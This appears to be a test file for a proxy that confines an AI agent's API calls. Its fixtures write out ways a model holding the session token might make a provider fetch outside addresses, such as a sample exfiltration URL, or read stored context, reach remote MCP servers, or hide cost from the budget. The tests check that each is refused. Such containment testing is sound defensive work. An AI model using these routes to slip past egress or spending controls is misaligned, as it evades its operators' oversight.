import { describe, expect, it } from 'vitest';
import type { FakeReply } from '../../sim/fake-anthropic.js';
import type { ResponsesReply } from '../../sim/fake-openai.js';
import {
  countTokens,
  message,
  response,
  send,
  sleep,
  startHarness,
} from './model-proxy-fixtures.js';

/**
 * The model's commands hold the session's proxy token. Here they try to make
 * the provider reach out from its own network, past the session's egress
 * rules, or bill what the request's body does not carry: images, documents
 * and files named by address or by file id, stored context
 * (`previous_response_id`, `conversation`, an item reference, a stored
 * prompt), containers, remote MCP servers and results of tools the provider
 * would have run, on the Anthropic and the OpenAI route, `count_tokens`
 * included; then requests sent at once whose real cost their estimate cannot
 * see. The provider must get none of the first, and the second must not
 * pass the budget together.
 */

const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAHnOcQAAAAABJRU5ErkJggg==';
const PDF = Buffer.from('%PDF-1.4\n%%EOF\n').toString('base64');
/** The PDF as a document block of an Anthropic message. */
const PDF_DOCUMENT = {
  type: 'document',
  source: { type: 'base64', media_type: 'application/pdf', data: PDF },
};
const AWAY = 'https://collector.example/leak?d=c2VjcmV0';

const userSays = (content: unknown[]) => message({ messages: [{ role: 'user', content }] });
/** A web fetch's result, as a research session's later turns carry it back, whose page has `source`. */
const fetchedPage = (source: unknown) => ({
  type: 'web_fetch_tool_result',
  tool_use_id: 'srvtoolu_1',
  content: {
    type: 'web_fetch_result',
    url: 'https://docs.example/a.pdf',
    content: { type: 'document', source },
  },
});
const userInput = (content: unknown[]) =>
  response({ input: [{ role: 'user', content }], max_output_tokens: 100 });

/** Anthropic requests that would have the provider fetch, read its storage, or run something. */
const ANTHROPIC_REACHING_OUT: Record<string, Record<string, unknown>> = {
  'an image by address': userSays([{ type: 'image', source: { type: 'url', url: AWAY } }]),
  'a document by address': userSays([{ type: 'document', source: { type: 'url', url: AWAY } }]),
  'an image by file id': userSays([{ type: 'image', source: { type: 'file', file_id: 'file_1' } }]),
  'a document by file id': userSays([
    { type: 'document', source: { type: 'file', file_id: 'file_1' } },
  ]),
  'an image by address inside a document': userSays([
    {
      type: 'document',
      source: { type: 'content', content: [{ type: 'image', source: { type: 'url', url: AWAY } }] },
    },
  ]),
  'an image by address in a tool result': message({
    messages: [
      { role: 'user', content: 'hi' },
      { role: 'assistant', content: [{ type: 'tool_use', id: 't1', name: 'bash', input: {} }] },
      {
        role: 'user',
        content: [
          {
            type: 'tool_result',
            tool_use_id: 't1',
            content: [{ type: 'image', source: { type: 'url', url: AWAY } }],
          },
        ],
      },
    ],
  }),
  'a container upload': userSays([{ type: 'container_upload', file_id: 'file_1' }]),
  'a search result naming an address': userSays([
    { type: 'search_result', source: AWAY, title: 't', content: [{ type: 'text', text: 'x' }] },
  ]),
  'a web fetch result outside research': userSays([
    { type: 'web_fetch_tool_result', tool_use_id: 's1', content: { url: AWAY } },
  ]),
  'a part of no type': userSays([{ source: { type: 'url', url: AWAY } }]),
  'a container': message({ container: 'container_1' }),
  'remote MCP servers': message({ mcp_servers: [{ type: 'url', url: AWAY, name: 'x' }] }),
  'a context edit that compacts': message({
    context_management: { edits: [{ type: 'compact_20260112' }] },
  }),
  'a field of a newer API': message({ documents_by_url: [AWAY] }),
};

/** OpenAI requests that would have the provider fetch, read its storage, or run something. */
const OPENAI_REACHING_OUT: Record<string, Record<string, unknown>> = {
  'an image by address': userInput([{ type: 'input_image', image_url: AWAY }]),
  'an image by file id': userInput([{ type: 'input_image', file_id: 'file-1' }]),
  'an image by file id beside a data address': userInput([
    { type: 'input_image', file_id: 'file-1', image_url: `data:image/png;base64,${PNG}` },
  ]),
  'a file by address': userInput([{ type: 'input_file', file_url: AWAY }]),
  'a file by file id': userInput([{ type: 'input_file', file_id: 'file-1' }]),
  'an image by address in a function output': response({
    input: [
      { type: 'function_call', call_id: 'c1', name: 'shell', arguments: '{}' },
      {
        type: 'function_call_output',
        call_id: 'c1',
        output: [{ type: 'input_image', image_url: AWAY }],
      },
    ],
  }),
  'stored context (previous_response_id)': response({ previous_response_id: 'resp_1' }),
  'a stored conversation': response({ conversation: 'conv_1' }),
  'a stored prompt': response({ prompt: { id: 'pmpt_1', variables: { x: AWAY } } }),
  'an item reference': response({ input: [{ type: 'item_reference', id: 'msg_1' }] }),
  'a web search call outside research': response({
    input: [{ type: 'web_search_call', id: 'ws_1', status: 'completed' }],
  }),
  'an image generation call': response({
    input: [{ type: 'image_generation_call', id: 'ig_1', result: null }],
  }),
  'server-side context management': response({
    context_management: [{ type: 'compaction', compact_threshold: 1000 }],
  }),
};

/** A proxy started for the test that refused `body` sent to `path` (400): the harness, for what it saw. */
async function refusedBy(path: string, body: Record<string, unknown>) {
  const harness = await startHarness();
  const answer = await send(harness.proxy, path, body);
  expect(answer.status, answer.text).toBe(400);
  return harness;
}

describe('the model proxy lets no provider fetch an address or read what the request does not carry', () => {
  it.each(Object.entries(ANTHROPIC_REACHING_OUT))(
    'Anthropic: refuses %s, on messages and count_tokens, before the provider sees it',
    async (_name, body) => {
      const { proxy, anthropic, meter } = await refusedBy('/v1/messages', body);
      const counted = await countTokens(proxy, { ...body, max_tokens: undefined });
      expect(counted.status).toBe(400);
      expect(anthropic.requests).toEqual([]);
      expect(meter.turns).toBe(0);
      expect(proxy.refused()).toHaveLength(2);
    },
  );

  it.each(Object.entries(OPENAI_REACHING_OUT))(
    'OpenAI: refuses %s before the provider sees it',
    async (_name, body) => {
      const { openai, meter } = await refusedBy('/v1/responses', body);
      expect(openai.requests).toEqual([]);
      expect(meter.turns).toBe(0);
    },
  );

  it('says why, naming what passes', async () => {
    const { proxy } = await startHarness();
    const image = await send(
      proxy,
      '/v1/messages',
      ANTHROPIC_REACHING_OUT['an image by address'] ?? {},
    );
    expect(image.text).toContain('the provider would fetch the address from its own network');
    const stored = await send(
      proxy,
      '/v1/responses',
      OPENAI_REACHING_OUT['stored context (previous_response_id)'] ?? {},
    );
    expect(stored.text).toContain('previous_response_id: stored context');
    const item = await send(proxy, '/v1/responses', OPENAI_REACHING_OUT['an item reference'] ?? {});
    expect(item.text).toMatch(
      /item_reference is not one the model proxy lets through \(it lets through message, /,
    );
  });

  it('lets images and documents through inline, on both routes, as the engines send them', async () => {
    const { proxy, anthropic, openai } = await startHarness();
    const inline = await send(
      proxy,
      '/v1/messages',
      message({
        system: [{ type: 'text', text: 'be brief' }],
        messages: [
          {
            role: 'user',
            content: [
              { type: 'text', text: 'look' },
              { type: 'image', source: { type: 'base64', media_type: 'image/png', data: PNG } },
              {
                type: 'document',
                source: { type: 'text', media_type: 'text/plain', data: 'notes' },
              },
            ],
          },
        ],
        context_management: { edits: [{ type: 'clear_thinking_20251015', keep: 'all' }] },
      }),
      { 'anthropic-beta': 'context-management-2025-06-27' },
    );
    expect(inline.status, inline.text).toBe(200);
    const dataUrl = await send(
      proxy,
      '/v1/responses',
      userInput([
        { type: 'input_text', text: 'look' },
        { type: 'input_image', image_url: `data:image/png;base64,${PNG}` },
      ]),
    );
    expect(dataUrl.status, dataUrl.text).toBe(200);
    expect(anthropic.requests).toHaveLength(1);
    expect(openai.requests).toHaveLength(1);
  });

  it('lets a research session’s web tool calls and results through, and only there', async () => {
    const later = message({
      messages: [
        { role: 'user', content: 'find it' },
        {
          role: 'assistant',
          content: [
            { type: 'server_tool_use', id: 's1', name: 'web_search', input: { query: 'x' } },
            { type: 'web_search_tool_result', tool_use_id: 's1', content: [] },
          ],
        },
        { role: 'user', content: 'go on' },
      ],
    });
    const research = await startHarness({ web: true });
    expect((await send(research.proxy, '/v1/messages', later)).status).toBe(200);
    const work = await startHarness();
    expect((await send(work.proxy, '/v1/messages', later)).status).toBe(400);
  });

  it.each<[string, unknown]>([
    ['by address', { type: 'url', url: AWAY }],
    ['by file id', { type: 'file', file_id: 'file_1' }],
    [
      'holding an image by address',
      { type: 'content', content: [{ type: 'image', source: { type: 'url', url: AWAY } }] },
    ],
  ])(
    'Anthropic research: refuses a web fetch result whose page is named %s, before the provider sees it',
    async (_name, source) => {
      const { proxy, anthropic } = await startHarness({ web: true });
      const answer = await send(proxy, '/v1/messages', userSays([fetchedPage(source)]));
      expect(answer.status, answer.text).toBe(400);
      expect(anthropic.requests).toEqual([]);
    },
  );
});

describe('the model proxy does not let requests whose cost their body hides pass the budget together', () => {
  /** Four requests at once, each carrying `parts`; the provider bills each `tokens` of input. */
  async function fourAtOnce({
    route,
    parts,
    tokens,
    maxUsd = 1,
    web = false,
  }: {
    route: '/v1/messages' | '/v1/responses';
    parts: unknown[];
    tokens: number;
    /** The session's dollar limit. */
    maxUsd?: number;
    /** A research session's, which may use the web. */
    web?: boolean;
  }) {
    let running = 0;
    let most = 0;
    const slow = async <T>(reply: T): Promise<T> => {
      running++;
      most = Math.max(most, running);
      await sleep(150);
      running--;
      return reply;
    };
    const harness = await startHarness({
      maxUsd,
      web,
      anthropic: () =>
        slow<FakeReply>({
          message: {
            content: [{ type: 'text', text: 'ok' }],
            usage: { input_tokens: tokens, output_tokens: 10 },
          },
        }),
      openai: () =>
        slow<ResponsesReply>({
          output: [{ type: 'message', text: 'ok' }],
          usage: { input_tokens: tokens, output_tokens: 10 },
        }),
    });
    const body = route === '/v1/messages' ? userSays(parts) : userInput(parts);
    const answers = await Promise.all(
      Array.from({ length: 4 }, () => send(harness.proxy, route, body)),
    );
    return { ...harness, most, served: answers.filter((answer) => answer.status === 200).length };
  }

  it('Anthropic: PDFs, which bill their pages uncompressed, run one at a time at their worst case', async () => {
    // Each tiny PDF bills 400,000 tokens of Sonnet ($1.20), and may bill the whole context
    // (1.1M tokens, $3.30): the budget of $4 holds one such worst case, not two.
    const run = await fourAtOnce({
      route: '/v1/messages',
      parts: [PDF_DOCUMENT],
      tokens: 400_000,
      maxUsd: 4,
    });
    expect(run.most).toBe(1);
    expect(run.served).toBe(1);
    expect(run.anthropic.requests).toHaveLength(1);
    expect(run.meter.cost_usd).toBeLessThanOrEqual(4);
    expect(run.proxy.stopped()).toMatch(
      /spent \$1\.20, and its next model request could cost up to \$3\.30, past .* budget\.maxUsd/,
    );
  });

  it('Anthropic: a PDF whose worst case is past the whole budget is refused before the provider sees it', async () => {
    const run = await fourAtOnce({
      route: '/v1/messages',
      parts: [PDF_DOCUMENT],
      tokens: 400_000,
    });
    expect(run.served).toBe(0);
    expect(run.anthropic.requests).toEqual([]);
    expect(run.meter.cost_usd).toBe(0);
    expect(run.proxy.stopped()).toMatch(/budget/);
  });

  it('Anthropic research: a fetched PDF carried back in a web fetch result runs one at a time at its worst case', async () => {
    // As the PDF above: 400,000 tokens of Sonnet each, and the whole context at worst.
    const run = await fourAtOnce({
      route: '/v1/messages',
      parts: [fetchedPage({ type: 'base64', media_type: 'application/pdf', data: PDF })],
      tokens: 400_000,
      maxUsd: 4,
      web: true,
    });
    expect(run.most).toBe(1);
    expect(run.served).toBe(1);
    expect(run.anthropic.requests).toHaveLength(1);
    expect(run.meter.cost_usd).toBeLessThanOrEqual(4);
  });

  it('OpenAI: files inline run one at a time at their worst case', async () => {
    // Each tiny file bills 200,000 tokens of gpt-5.5 ($1), and may bill the whole context at
    // its long-context price ($11 of input): the first runs with its output cut to what the
    // budget of $12 leaves; the next finds $11 left, less than its input at worst.
    const run = await fourAtOnce({
      route: '/v1/responses',
      parts: [
        { type: 'input_file', filename: 'a.pdf', file_data: `data:application/pdf;base64,${PDF}` },
      ],
      tokens: 200_000,
      maxUsd: 12,
    });
    expect(run.most).toBe(1);
    expect(run.served).toBe(1);
    expect(run.openai.requests[0]?.body.max_output_tokens).toBeLessThan(22_000);
    expect(run.meter.cost_usd).toBeLessThanOrEqual(12);
  });

  it('Anthropic: images count at the most an image bills, so small ones sent together wait', async () => {
    // Twenty 1×1 images, each billed as a large one (4,784 tokens, $0.29 a request of Sonnet),
    // each counted at the most an image bills (10,000 tokens): $0.60 at worst.
    const image = { type: 'image', source: { type: 'base64', media_type: 'image/png', data: PNG } };
    const run = await fourAtOnce({
      route: '/v1/messages',
      parts: Array.from({ length: 20 }, () => image),
      tokens: 20 * 4_784,
    });
    // One at a time: the next would pass the budget with what the one under way may cost. The
    // second starts once the first is billed; then what is left cannot hold a third at its worst.
    expect(run.most).toBe(1);
    expect(run.served).toBe(2);
    expect(run.meter.cost_usd).toBeLessThanOrEqual(1);
    expect(run.proxy.stopped()).toMatch(/could cost up to/);
  });

  it('OpenAI: images count at the most an image bills, so small ones sent together wait', async () => {
    // Six 1×1 images, each billed as an original-detail one of 10,000 patches ($0.30 a request),
    // each counted at the most an image bills (25,000 tokens): $0.75 of input at worst.
    const image = { type: 'input_image', image_url: `data:image/png;base64,${PNG}` };
    const run = await fourAtOnce({
      route: '/v1/responses',
      parts: Array.from({ length: 6 }, () => image),
      tokens: 60_000,
    });
    // The first runs with its output cut to what the budget leaves; the next cannot fit.
    expect(run.served).toBe(1);
    expect(run.most).toBe(1);
    expect(run.meter.cost_usd).toBeLessThanOrEqual(1);
  });
});
